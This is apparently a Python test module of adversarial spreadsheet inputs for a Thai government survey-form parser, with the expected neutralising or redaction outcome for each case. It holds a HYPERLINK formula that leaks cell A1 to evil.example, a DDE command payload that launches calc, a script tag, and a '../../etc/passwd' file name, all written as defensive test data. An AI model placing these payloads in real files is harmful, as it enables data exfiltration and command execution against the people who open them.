"""Texts that harm a careless program: formulas, secrets, very long and invisible texts, look-alikes."""

from tests.forms.drawing import DENCHAI, FOOT, ONE_ROW, Page, book, official, rows, table
from tests.forms.drawn.case import Drawn, drawn

BODY = rows(DENCHAI)
LABEL = "ปัญหาอุปสรรคจากการตามพระราชบัญญัติฯ"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"กดที่นี่")'
FIRST, REST = "ทต.แม่จั๊วะ", {name: said for name, said in DENCHAI.items() if name != "ทต.แม่จั๊วะ"}


def _remark(name: str, why: str, text: str, read: str) -> Drawn:
    foot = [[], [LABEL, None, text], *FOOT[4:]]
    said = ["key-hidden"] if "ปกปิด" in read else []
    return drawn(name, book(official(BODY, foot=foot)), why, *said, remarks={"obstacles": read})


def CASES() -> list[Drawn]:  # noqa: N802 - one word for all modules
    """All of them."""
    injected, padded, long = rows(DENCHAI), rows(DENCHAI), rows(DENCHAI)
    injected[0][1] = EVIL
    padded = [[n, f"\u00a0{name[:6]}\u200b{name[6:]}\u2003", *cells] for n, name, *cells in padded]
    long[0][1] = "ก" * 30_000
    command = rows(DENCHAI)
    command[0][2] = "=cmd|' /C calc'!A0"
    lookalike = rows({**DENCHAI})
    swapped = [[n, name.replace("แม่จั๊วะ", "แม่จั๊วะ ") + " ", *cells] for n, name, *cells in rows(DENCHAI)]
    markup = [[n, name, *cells, "<script>alert(1)</script>"] for n, name, *cells in lookalike]
    return [
        drawn("formula-as-name", book(table(injected)), "a formula as text where a name belongs: nobody's name", "organisation-unknown B2", "organisation-missing", answers=REST),
        drawn("formula-as-tick", book(table(command)), "a command as text where a tick belongs: asked", "answer-unreadable C2", answers={**DENCHAI, FIRST: "-YYY"}),
        _remark("formula-as-remark", "a formula as text in a remark stays a text", "=1+1", "=1+1"),
        _remark("citizen-number", "a citizen's number in a remark is hidden", "ผู้ประสาน 1101700203450 โทร 0812345678", "ผู้ประสาน [ปกปิด] โทร 0812345678"),
        _remark("citizen-number-dashed", "the same with dashes", "บัตร 1-1017-00203-45-1", "บัตร [ปกปิด]"),
        _remark("token-key", "a log-in key in a remark is hidden", "Token Key: aB3dE6gH9jK2mN5 เข้าไม่ได้", "Token Key: [ปกปิด] เข้าไม่ได้"),
        _remark("invisible", "invisible characters in a remark", "ระบบ\u200bล่ม\ufeffบ่อย\u00a0มาก", "ระบบล่มบ่อย มาก"),
        _remark("markup", "markup in a remark stays a text", "<b>ด่วน</b> & รอ", "<b>ด่วน</b> & รอ"),
        drawn("invisible-in-names", book(table(padded)), "hard and invisible spaces in every name"),
        drawn("very-long-cell", book(table(long)), "30,000 characters where a name belongs", "organisation-unknown B2", "organisation-missing", answers=REST),
        drawn("trailing-spaces", book(table(swapped)), "spaces after every name"),
        drawn("markup-column", book(Page([[*ONE_ROW, "หมายเหตุ"], *markup])), "a script in the notes"),
        drawn("sheet-name-formula", book(Page([ONE_ROW, *BODY], name="=1+1")), "a sheet whose name looks like a formula"),
        drawn("file-name-path", book(table(BODY)), "a file's name that climbs folders", name_sent="../../etc/passwd.xlsx"),
        drawn("thousand-empty-rows", book(Page([ONE_ROW, *[[]] * 1500, *BODY])), "1,500 empty rows between header and answers"),
        drawn("far-corner", book(Page([ONE_ROW, *BODY, *[[]] * 5000, [*[None] * 300, "."]])), "a dot in a far corner"),
        drawn("code-as-number", book(Page([["ที่", "รหัส", "ชื่อ อปท.", *ONE_ROW[2:]], *[[n, 1, name, *cells] for n, name, *cells in rows(DENCHAI)]])), "a column full of 1 beside the answers"),
    ]  # fmt: skip
